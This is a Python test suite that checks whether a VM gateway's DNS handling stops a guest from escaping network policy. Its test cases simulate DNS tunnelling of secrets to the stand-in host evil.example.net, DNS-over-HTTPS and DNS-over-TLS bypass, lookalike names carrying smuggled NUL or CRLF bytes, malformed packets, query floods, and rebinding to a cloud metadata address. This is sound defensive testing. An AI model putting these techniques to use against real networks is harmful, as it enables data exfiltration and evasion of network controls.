"""DNS: nothing a guest asks is forwarded, and no name leads where policy does not."""

from __future__ import annotations

import struct

import pytest

from tests.barrier.attacks.guest import Case, Guest
from tests.barrier.attacks.kit import (
    GATEWAY,
    client_hello,
    dns_query,
    fetch,
    handshake,
    name_of,
    os,
    raw_http,
    records,
    resolve,
    socket,
    tcp,
    udp,
)
from tests.barrier.world import WORLD
from tests.support import eventually

pytestmark = [pytest.mark.vm, pytest.mark.root]

ALLOWED = ["allow api.example.com"]
NXDOMAIN, NODATA = 3, 0


REBOUND = "rebind.example.com"


@pytest.fixture(scope="module", autouse=True)
def rebound(guest: Guest) -> None:
    """Its first answer is public, and used; the host remembers it for a while, so the case itself is the last one."""
    answers = iter([["93.184.216.35"]])
    guest.lab.names[REBOUND] = lambda: next(answers, ["169.254.169.254"])
    guest.network([f"allow {REBOUND}"])
    assert b"hello from 93.184.216.35" in guest.run(fetch, f"http://{REBOUND}/")["body"]


def synthetic(address: str) -> bool:
    return address.startswith("198.18.")


def tunnel(count: int, suffix: str) -> list[object]:
    """A file in the labels of names, as iodine and dnscat do."""
    secret = os.urandom(30 * count).hex()
    names = [f"{secret[at : at + 60]}.{suffix}" for at in range(0, len(secret), 60)]
    return [resolve(name)["code"] for name in names]


def test_tunnel_by_label(case: Case) -> None:
    case.guest.network(ALLOWED)
    assert set(case.guest.run(tunnel, 20, "evil.example.net")) == {NXDOMAIN}
    case.nothing_arrived()
    case.denied(kind="dns")
    # Under a rule for the attacker's own domain names are still not asked when they are resolved, only when dialled.
    case.again()
    case.guest.network(["allow *.evil.example.net"])
    assert set(case.guest.run(tunnel, 20, "evil.example.net")) == {NODATA}
    case.nothing_arrived()
    assert case.guest.run(fetch, "http://x.evil.example.net/")["status"] == 200
    assert "x.evil.example.net" in {one.name for one in case.lab.asked(case.mark) if one.to == WORLD}


@pytest.mark.parametrize("kind", [16, 10, 15, 5, 33, 255, 12, 28, 65, 64, 2, 6, 252])
def test_tunnel_by_other_types(case: Case, kind: int) -> None:
    """TXT, NULL, MX, CNAME, SRV, ANY, PTR, AAAA, HTTPS, SVCB, NS, SOA, AXFR."""
    case.guest.network(ALLOWED)
    denied = case.guest.run(resolve, "c2VjcmV0.evil.example.net", kind)
    assert denied["code"] in (NXDOMAIN, 4, 5)
    allowed = case.guest.run(resolve, "api.example.com", kind)
    # To "any" with the address that there is; to everything else with nothing.
    assert allowed["answers"] == len(allowed["addresses"]) <= (kind == 255), allowed
    assert all(synthetic(address) for address in allowed["addresses"])
    case.nothing_arrived()
    case.denied(kind="dns", name="c2vjcmv0.evil.example.net")
    assert synthetic(case.guest.run(resolve, "api.example.com")["addresses"][0])


@pytest.mark.parametrize("server", ["8.8.8.8", "1.1.1.1", "10.0.0.53", WORLD, "127.0.0.53", "198.19.255.3"])
@pytest.mark.parametrize("over", ["udp", "tcp"])
def test_any_resolver_is_ours(case: Case, server: str, over: str) -> None:
    case.guest.network(ALLOWED)
    answer = case.guest.run(resolve, "evil.example.net", server=server, over=over)
    assert answer["outcome"] != "answered" or answer["code"] == NXDOMAIN
    allowed = case.guest.run(resolve, "api.example.com", server=server, over=over)
    assert all(synthetic(address) for address in allowed["addresses"])
    case.nothing_arrived()
    if not server.startswith(("127.", "198.19.")):
        query = dns_query("control.evil.example.net")
        case.lab.send(server, 53, query)
        eventually(lambda: [one for one in case.lab.asked(case.mark) if one.to == server])


@pytest.mark.parametrize("network", ["none", ALLOWED, "public"])
def test_dns_over_tls(case: Case, network: object) -> None:
    case.guest.network(network)
    for server in ("8.8.8.8", "1.1.1.1", GATEWAY):
        answer = case.guest.run(resolve, "evil.example.net", server=server, port=853, over="tls")
        assert answer["outcome"] != "answered" or answer["code"] == NXDOMAIN, answer
    case.nothing_arrived()
    case.denied(port=853)
    case.guest.network(["allow tcp 8.8.8.8:853"])
    case.again()
    answer = case.guest.run(resolve, "api.example.com", server="8.8.8.8", port=853, over="tls")
    assert answer["addresses"] == ["93.184.216.34"]
    assert [one.over for one in case.lab.asked(case.mark) if one.to == "8.8.8.8"] == ["tls"]


@pytest.mark.parametrize("name", ["dns.google", "cloudflare-dns.com"])
def test_dns_over_https(case: Case, name: str) -> None:
    url = f"https://{name}/dns-query?dns=AAABAAABAAAAAAAABGV2aWwAAAEAAQ"
    for network in (ALLOWED, "public"):
        case.guest.network(network)
        assert case.guest.run(fetch, url)["status"] in (0, 403)
        literal = case.lab.names[name][0]  # type: ignore[index]
        assert case.guest.run(fetch, url, connect=literal, verify=False)["status"] in (0, 403)
    case.nothing_arrived()
    case.denied(name=name)
    case.guest.network(["allow " + name])
    assert case.guest.run(fetch, url)["status"] == 200


@pytest.mark.parametrize(
    ("address", "port"),
    [("224.0.0.251", 5353), ("224.0.0.252", 5355), ("198.19.255.3", 137), ("239.255.255.250", 1900),
     ("255.255.255.255", 5353), ("224.0.0.1", 5353)],
)  # fmt: skip
def test_multicast_names(case: Case, address: str, port: int) -> None:
    """mDNS, LLMNR, NetBIOS, SSDP: nobody hears and nobody answers."""
    case.guest.network("public")

    def ask(address: str, port: int) -> str:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.settimeout(0.5)
            try:
                sock.sendto(dns_query("printer.local"), (address, port))
                return repr(sock.recv(2_000))
            except OSError as error:
                return type(error).__name__

    assert not case.guest.run(ask, address, port).startswith("b'")
    case.nothing_arrived()
    if address.startswith("224.0.0.25"):
        case.lab.send(address, port, dns_query("printer.local"))
        case.lab.settle()
        assert address in {packet.destination for packet in case.lab.left(case.mark)}


def test_an_answer_with_a_private_address_among_public_ones(case: Case) -> None:
    case.guest.network(["allow mixed.example.com"])
    for _ in range(3):
        case.guest.run(fetch, "http://mixed.example.com/")
    assert not case.lab.arrived(case.mark, address="10.0.0.5")
    case.lab.settle()
    assert "10.0.0.5" not in {one.destination for one in case.lab.left(case.mark)}
    case.guest.network(["allow mixed.example.com", "allow 10.0.0.5"])
    assert b"hello from 10.0.0.5" in case.guest.run(fetch, "http://mixed.example.com/")["body"]


@pytest.mark.parametrize(
    "name",
    [
        "private",
        "nas",
        "loopback",
        "host",
        "mapped",
        "nat64",
        "multicast",
        "zero",
        "host6",
        "loopback6",
        "local6",
        "unique6",
        "6to4",
        "compatible",
        "teredo",
        "isatap",
        "reserved",
        "synthetic",
        "link",
        "cgnat",
    ],
)
def test_names_of_what_is_never_dialled(case: Case, name: str) -> None:
    full = f"{name}.example.com"
    for network in ([f"allow {full}"], "public", ["allow *"]):
        case.guest.network(network)
        answer = case.guest.run(fetch, f"http://{full}/")
        assert answer["status"] in (0, 403, 502), answer
    case.nothing_arrived(resolving=(full,))
    case.denied(name=full)
    if name in ("private", "nas", "cgnat"):
        case.guest.network([f"allow {full}", "allow 10.0.0.0/8", "allow 192.168.1.10", "allow 100.64.0.0/10"])
        assert case.guest.run(fetch, f"http://{full}/")["status"] == 200
    elif name in ("nat64", "6to4", "isatap", "unique6"):
        case.guest.network([f"allow {full}", f"allow [{case.lab.names[full][0]}]"])  # type: ignore[index]
        assert case.guest.run(fetch, f"http://{full}/")["status"] == 200


@pytest.mark.parametrize(
    "wire",
    [
        pytest.param(name_of(b"api.example", "com"), id="dot in a label"),
        pytest.param(name_of("api", "example", "com\0"), id="NUL"),
        pytest.param(name_of("api", "example", "com", "evil", "example", "net"), id="prefix"),
        pytest.param(name_of("evil", "example", "net\0", "api", "example", "com"), id="NUL before"),
        pytest.param(name_of("\u0430pi".encode(), "example", "com"), id="homograph"),
        pytest.param(name_of("xapi", "example", "com"), id="longer"),
        pytest.param(name_of("x", "api", "example", "com"), id="below"),
        pytest.param(name_of("example", "com"), id="above"),
        pytest.param(name_of(" api", "example", "com"), id="space"),
        pytest.param(name_of("api\r\n", "example", "com"), id="newline"),
        pytest.param(name_of("*", "example", "com"), id="asterisk"),
        pytest.param(b"\0", id="root"),
    ],
)
def test_names_that_look_allowed(case: Case, wire: bytes) -> None:
    case.guest.network(ALLOWED)
    answer = case.guest.run(resolve, wire)
    assert not answer["addresses"] and answer["code"] != NODATA, answer
    case.nothing_arrived()
    case.denied(kind="dns")
    assert synthetic(case.guest.run(resolve, name_of("API", "Example", "COM"))["addresses"][0])


def malformed() -> list[str]:
    """Everything that is no query; what came back is not looked at, but that an honest one is answered after each."""
    question = struct.pack(">HH", 1, 1)
    head = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    cases = {
        "empty": b"",
        "short": head[:11],
        "head": head,
        "loop": head + b"\xc0\x0c" + question,
        "loops": head + b"\xc0\x0e\xc0\x0c" + question,
        "forward": head + b"\xc0\xff" + question,
        "label of 64": head + b"\x40" + b"a" * 64 + b"\0" + question,
        "label of 255": head + b"\xff" + b"a" * 255 + b"\0" + question,
        "endless": head + b"\x3f" + b"a" * 63,
        "huge": head + (b"\x3f" + b"a" * 63) * 900 + b"\0" + question,
        "name of 255": head + (b"\x01a") * 140 + b"\0" + question,
        "no question": struct.pack(">HHHHHH", 7, 0x0100, 0, 0, 0, 0),
        "many": struct.pack(">HHHHHH", 7, 0x0100, 65_535, 65_535, 65_535, 65_535) + b"\0" + question,
        "answer": struct.pack(">HHHHHH", 7, 0x8180, 1, 0, 0, 0) + name_of("api", "example", "com") + question,
        "update": struct.pack(">HHHHHH", 7, 0x2800, 1, 0, 0, 0) + name_of("api", "example", "com") + question,
        "notify": struct.pack(">HHHHHH", 7, 0x2000, 1, 0, 0, 0) + name_of("api", "example", "com") + question,
        "chaos": head + name_of("version", "bind") + struct.pack(">HH", 16, 3),
        "garbage": os.urandom(1_400),
        "opt": dns_query(
            "api.example.com", additional=1, more=b"\0" + struct.pack(">HHIH", 41, 0, 0, 65_535)
        ),
    }
    failed = []
    for name, raw in cases.items():
        udp(GATEWAY, 53, raw[:1_472], timeout=0.15)
        tcp(GATEWAY, 53, len(raw).to_bytes(2, "big") + raw, timeout=0.3)
        if not resolve("api.example.com")["addresses"]:
            failed.append(name)
    tcp(GATEWAY, 53, b"\xff\xff" + os.urandom(70_000), timeout=0.3)
    tcp(GATEWAY, 53, b"\0\0" * 1_000, timeout=0.3)
    return failed


def test_malformed_queries(case: Case) -> None:
    case.guest.network(ALLOWED)
    assert case.guest.run(malformed) == []
    case.nothing_arrived()


def flood(count: int) -> tuple[int, float]:
    start, answered = os.times().elapsed, 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((GATEWAY, 53))
        sock.setblocking(False)
        for number in range(count):
            try:
                sock.send(dns_query(f"{number:08x}.evil.example.net"))
                sock.recv(2_000)
                answered += 1
            except OSError:
                pass
    return answered, os.times().elapsed - start


def test_flood_of_queries(case: Case) -> None:
    """As fast as a guest can; afterwards honest queries are answered, and the record says how many there were."""
    case.guest.network(ALLOWED)
    case.guest.run(flood, 5_000)

    def answered() -> bool:
        return bool(case.guest.run(resolve, "api.example.com")["addresses"])

    eventually(answered)
    case.nothing_arrived()
    case.denied(kind="dns", repeated=lambda value: value and value > 100)
    assert case.guest.run(fetch, "http://api.example.com/")["status"] == 200


def test_addresses_of_no_name(case: Case) -> None:
    """Synthetic addresses nobody was told of, and what is beside the link."""
    case.guest.network(["allow *.example.com"])
    for address in ("198.18.255.254", "198.18.0.0", "198.18.77.7", "198.19.0.1", "198.19.254.254"):
        answer = case.guest.run(
            tcp, address, 80, b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n", limit=400
        )
        assert b"200" not in answer["data"] and answer["outcome"] != "timeout", (address, answer)
        hello = case.guest.run(handshake, address, records(client_hello("api.example.com")))
        assert hello["answer"] != "hello"
    case.nothing_arrived()
    case.denied(address="198.18.77.7")
    assert (
        case.guest.run(raw_http, b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n", limit=1)["outcome"]
        == "answered"
    )


def test_rebinding(case: Case) -> None:
    """The second answer is a private address: the gateway dials what it has judged, and judges each time."""
    case.guest.network([f"allow {REBOUND}"])

    def denied() -> bool:
        return bool(case.guest.run(fetch, f"http://{REBOUND}/")["status"] != 200)

    eventually(denied, 70)
    case.lab.settle()
    assert not case.lab.arrived(case.mark, address="169.254.169.254")
    assert "169.254.169.254" not in {one.destination for one in case.lab.left(case.mark)}
    case.denied(name=REBOUND)
    case.guest.network([f"allow {REBOUND}", "allow 169.254.169.254"])
    assert b"hello from 169.254.169.254" in case.guest.run(fetch, f"http://{REBOUND}/")["body"]
